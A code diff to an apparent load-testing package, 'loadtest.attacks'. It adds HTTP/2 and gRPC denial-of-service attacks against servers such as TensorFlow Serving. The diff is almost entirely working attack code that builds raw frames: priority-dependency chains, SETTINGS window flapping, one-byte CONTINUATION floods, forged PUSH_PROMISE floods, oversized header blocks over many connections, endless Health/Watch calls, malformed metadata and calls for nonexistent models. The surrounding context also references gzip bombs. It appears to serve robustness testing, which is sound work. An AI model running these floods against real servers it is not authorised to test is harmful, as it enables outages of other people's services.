@@ -4,12 +4,22 @@ from __future__ import annotations
 
 import itertools
 import time
-from collections.abc import Iterator
+from collections.abc import Callable, Iterator
 
 from loadtest.attacks import frames
 from loadtest.attacks.attacker import Attacker, Conn, repeated
 from loadtest.attacks.bombs import gzipped_zeros
-from loadtest.attacks.frames import ACK, CONTINUATION, DATA, END_HEADERS, HEADERS, INITIAL_WINDOW_SIZE, PING, PRIORITY
+from loadtest.attacks.frames import (
+    ACK,
+    CONTINUATION,
+    DATA,
+    END_HEADERS,
+    END_STREAM,
+    HEADERS,
+    INITIAL_WINDOW_SIZE,
+    PING,
+    PRIORITY,
+)
 
 # Number of streams that an attack opens on one connection; servers allow 100 to 1000.
 _STREAMS = 1000
@@ -21,6 +31,10 @@ _WINDOWS_A_STEP = 8
 # Number of streams that get one byte at a time, and the pause between two bytes.
 _DRIBBLED = 20
 _DRIBBLE_S = 0.1
+# Number of calls in flight of an attack whose calls are legal; servers allow 100 streams or more.
+_AT_ONCE = 96
+# Numbers of connections that an attack with many streams on each of them opens.
+_CONNECTIONS, _FEW_CONNECTIONS = 100, 10
 
 
 def _streams(first: int = 1) -> Iterator[int]:
@@ -346,3 +360,143 @@ def second_gzip_messages(attacker: Attacker) -> None:
 def stream_gzip_messages(attacker: Attacker) -> None:
     """gRPC messages that inflate to 60 MB, each as the second message of a call of gRPC's reflection service."""
     _gzip_bombs(attacker, bytes(5), _REFLECTION)
+
+
+def _wide(attacker: Attacker) -> Conn:
+    """Opens a connection with large windows."""
+    conn = attacker.http2((INITIAL_WINDOW_SIZE, frames.MAX_WINDOW))
+    conn.send([frames.window_update(0, 1 << 30)], attacker.end_s)
+    return conn
+
+
+def _calls(attacker: Attacker, call: Callable[[int], bytes]) -> None:
+    """Keeps legal calls in flight on one connection.
+
+    Args:
+      call: returns the frames of a call, given the number of its stream.
+    """
+    conn = _wide(attacker)
+    streams = _streams()
+    begun = 0
+    while not attacker.is_over and not conn.closed:
+        free = _AT_ONCE - (begun - len(conn.received.ended_streams))
+        if free > 0:
+            conn.send([b"".join(map(call, itertools.islice(streams, free)))], attacker.end_s)
+            begun += free
+        else:
+            conn.wait(min(time.monotonic() + 0.001, attacker.end_s))
+    conn.last_word()
+
+
+def _body(attacker: Attacker, stream: int, message: bytes | None = None) -> bytes:
+    data = attacker.target.body if message is None else b"\0" + len(message).to_bytes(4) + message
+    return frames.frame(DATA, END_STREAM, stream, data)
+
+
+def dependencies(attacker: Attacker) -> None:
+    """Requests whose HEADERS frames each depend on the next stream, as HTTP/2's first version ordered streams."""
+    fields = attacker.target.fields()
+
+    def call(stream: int) -> bytes:
+        priority = (stream + 2 | 1 << 31).to_bytes(4) + b"\xff"
+        ends = END_STREAM if not attacker.target.body else 0
+        head = frames.frame(HEADERS, END_HEADERS | 0x20 | ends, stream, priority + fields)
+        return head if ends else head + _body(attacker, stream)
+
+    _calls(attacker, call)
+
+
+def window_changes(attacker: Attacker) -> None:
+    """SETTINGS frames that open and close the windows of 100 streams whose answers have megabytes."""
+    conn, _ = _waiting(attacker, is_large=True)
+    pair = frames.settings((INITIAL_WINDOW_SIZE, 1000)) + frames.settings((INITIAL_WINDOW_SIZE, 0))
+    attacker.flood(repeated(pair), conn)
+
+
+def byte_continuations(attacker: Attacker) -> None:
+    """Requests whose header blocks arrive in CONTINUATION frames of 1 byte."""
+    fields = attacker.target.fields()
+
+    def request(stream: int) -> bytes:
+        parts = [frames.frame(HEADERS, 0, stream)]
+        parts += [frames.frame(CONTINUATION, 0, stream, fields[at : at + 1]) for at in range(len(fields))]
+        return b"".join([*parts, frames.frame(CONTINUATION, END_HEADERS, stream)])
+
+    attacker.flood(_gathered(map(request, _streams())), attacker.http2())
+
+
+def push_promises(attacker: Attacker) -> None:
+    """PUSH_PROMISE frames, which only a server may send."""
+    conn = attacker.http2()
+    conn.send([attacker.target.open_request(1)], attacker.end_s)
+    promise = (2).to_bytes(4) + attacker.target.fields()
+    attacker.flood(repeated(frames.frame(frames.PUSH_PROMISE, END_HEADERS, 1, promise)), conn)
+
+
+def _begun(attacker: Attacker, connections: int, begin: Callable[[int], bytes]) -> None:
+    """Begins a call on each of 100 streams of many connections, and reads answers until the time is over."""
+    begun = b"".join(map(begin, range(1, 2 * _FEW, 2)))
+    conns: list[Conn] = []
+    for _ in range(connections):
+        if not attacker.is_over and (conn := attacker.connect()) is not None:
+            conns.append(conn)
+            conn.send([frames.PREFACE + frames.settings() + begun], attacker.end_s)
+    while not attacker.is_over and not all(conn.closed for conn in conns):
+        for conn in conns:
+            conn.wait(min(time.monotonic() + 0.001, attacker.end_s))
+
+
+def large_headers(attacker: Attacker) -> None:
+    """Requests with 60 KB of headers each on 100 streams of 10 connections; their bodies do not come."""
+    more = [(b"h%d" % number, b"v" * 4000) for number in range(15)]
+    fields = attacker.target.fields(*more)
+    parts = [fields[at : at + 16384] for at in range(0, len(fields), 16384)]
+
+    def begin(stream: int) -> bytes:
+        sent = [frames.frame(HEADERS, 0, stream, parts[0])]
+        sent += [frames.frame(CONTINUATION, 0, stream, part) for part in parts[1:-1]]
+        return b"".join([*sent, frames.frame(CONTINUATION, END_HEADERS, stream, parts[-1])])
+
+    _begun(attacker, _FEW_CONNECTIONS, begin)
+
+
+_WATCH = "/grpc.health.v1.Health/Watch"
+_STATUS = "/tensorflow.serving.ModelService/GetModelStatus"
+# Metadata that gRPC's specification does not allow, or that gRPC's C++ core can not parse.
+_ODD_METADATA = (
+    (b"grpc-timeout", b"1x"),
+    (b"grpc-timeout", b"99999999H"),
+    (b"grpc-encoding", b"odd"),
+    (b"grpc-previous-rpc-attempts", b"many"),
+    (b"x-bin", b"***"),
+    (b"x", b"\xff"),
+)
+
+
+def health_watches(attacker: Attacker) -> None:
+    """Calls to Health/Watch, which have no end, on 100 streams of 100 connections."""
+    fields = attacker.target.fields(path=_WATCH)
+
+    def begin(stream: int) -> bytes:
+        return frames.frame(HEADERS, END_HEADERS, stream, fields) + _body(attacker, stream, b"")
+
+    _begun(attacker, _CONNECTIONS, begin)
+
+
+def odd_metadata(attacker: Attacker) -> None:
+    """Calls with malformed deadlines, unknown encodings, and metadata that is neither base64 nor text as it must be."""
+    heads = itertools.cycle([attacker.target.fields(pair, path=_STATUS) for pair in _ODD_METADATA])
+    _calls(attacker, lambda s: frames.frame(HEADERS, END_HEADERS, s, next(heads)) + _body(attacker, s, b""))
+
+
+def unknown_models(attacker: Attacker) -> None:
+    """Predict calls that each name another model, which does not exist."""
+    fields = attacker.target.fields()
+
+    def call(stream: int) -> bytes:
+        name = b"m%010d" % stream
+        spec = b"\x0a" + bytes([len(name)]) + name
+        message = b"\x0a" + bytes([len(spec)]) + spec
+        return frames.frame(HEADERS, END_HEADERS, stream, fields) + _body(attacker, stream, message)
+
+    _calls(attacker, call)
